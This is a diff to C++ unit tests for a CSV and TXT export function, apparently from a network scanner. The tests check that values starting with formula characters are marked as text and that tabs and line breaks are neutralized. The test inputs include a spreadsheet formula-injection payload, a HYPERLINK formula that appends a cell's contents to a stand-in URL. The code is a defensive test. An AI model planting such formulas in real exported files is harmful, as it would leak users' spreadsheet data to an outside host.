@@ -26,7 +26,7 @@ const std::vector<ResultRow> kRows = {
 TEST(ListExport, FieldsAFormulaWouldStartAreMarkedAsText)
 {
     for (const char* formula :
-         {"=1+2*3", "+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x/?\"&A2,\"Details\")", "\tX", "\rX"}) {
+         {"=1+2*3", "+1", "-1+1", "@SUM(1+1)", R"(=HYPERLINK("http://x/?"&A2,"Details"))", "\tX", "\rX"}) {
         EXPECT_EQ(SpreadsheetSafe(formula), std::string("'") + formula) << formula;
     }
     // The mark of a value that could not be learned, and ordinary texts, stay.
@@ -50,6 +50,21 @@ TEST(ListExport, CsvQuotesEveryFieldDoublesQuotesAndEndsLinesWithCr)
               "\"10.0.0.1\",\"00:11:22:33:44:55\",\"PC1\",\"\",\"\",\"\",\"\",\"\",\"Intel\"\r"
               "\"10.0.0.2\",\"AA:BB:CC:DD:EE:FF\",\"-\",\"-\",\"512\",\"C$;D$;\",\"Win, 10\",\"100\","
               "\"Say \"\"Hi\"\" Ltd\"\r");
+}
+
+// Host texts that would run as formulas or split a row, in both formats: every field
+// is marked, a tab or line break inside a field becomes a blank.
+TEST(ListExport, HostileHostTextsStayInTheirCells)
+{
+    const std::vector<ResultRow> rows = {
+        Row({"10.0.0.3", "00:11:22:33:44:03", "=1+2*3", "@SUM(1+1)", "-", "PC\tONE\r\nX",
+             R"(=HYPERLINK("http://x/?"&A2,"Details"))", "\t-1", "+Vendor"})};
+    EXPECT_EQ(FormatExport(rows, ExportType::Txt).substr(79),
+              "10.0.0.3\t00:11:22:33:44:03\t'=1+2*3\t'@SUM(1+1)\t-\tPC ONE  X\t"
+              "'=HYPERLINK(\"http://x/?\"&A2,\"Details\")\t' -1\t'+Vendor\r\n");
+    EXPECT_EQ(FormatExport(rows, ExportType::Csv).substr(78),
+              "\"10.0.0.3\",\"00:11:22:33:44:03\",\"'=1+2*3\",\"'@SUM(1+1)\",\"-\",\"PC ONE  X\","
+              "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Details\"\")\",\"' -1\",\"'+Vendor\"\r");
 }
 
 TEST(ListExport, EmptyListGivesHeaderOnly)
